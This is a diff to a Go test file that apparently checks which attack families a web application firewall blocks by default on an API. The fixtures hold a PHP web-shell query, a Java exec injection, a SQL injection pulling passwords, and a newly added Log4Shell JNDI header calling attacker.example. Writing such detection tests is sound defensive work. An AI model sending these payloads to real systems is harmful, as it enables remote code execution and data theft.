@@ -128,13 +128,16 @@ func TestRXCacheKeepsNoAlias(t *testing.T) {
 }
 
 // TestSkippedFamilies checks that the PHP, Java and session-fixation
-// families are out by default and in with AllFamilies, and that the
-// families that matter for the API stay in either way.
+// families are out by default and in with AllFamilies, that Log4Shell
+// stays, and that the families that matter for the API stay either way.
 func TestSkippedFamilies(t *testing.T) {
 	php := chatRequest(nil)
 	php.Method, php.RequestURI = "GET", "/v1/models?x=%3C%3Fphp%20system(%24_GET%5Bcmd%5D)%3B%20%3F%3E"
 	java := chatRequest(nil)
 	java.Method, java.RequestURI = "GET", "/v1/models?x=java.lang.Runtime.getRuntime().exec(%22id%22)"
+	log4j := chatRequest(nil)
+	log4j.Method, log4j.RequestURI = "GET", "/v1/models"
+	log4j.Header.Set("X-Api-Version", "${jndi:ldap://attacker.example/a}")
 	sqli := chatRequest(nil)
 	sqli.Method, sqli.RequestURI = "GET", "/v1/models?id=1%27%20OR%20%271%27=%271%27%20UNION%20SELECT%20password%20FROM%20users--"
 	lean := mustDefault(t)
@@ -150,6 +153,7 @@ func TestSkippedFamilies(t *testing.T) {
 		{"php all", all, php, "933", true},
 		{"java default", lean, java, "944", false},
 		{"java all", all, java, "944", true},
+		{"log4shell default", lean, log4j, "944", true},
 		{"sqli default", lean, sqli, "942", true},
 		{"sqli all", all, sqli, "942", true},
 	} {
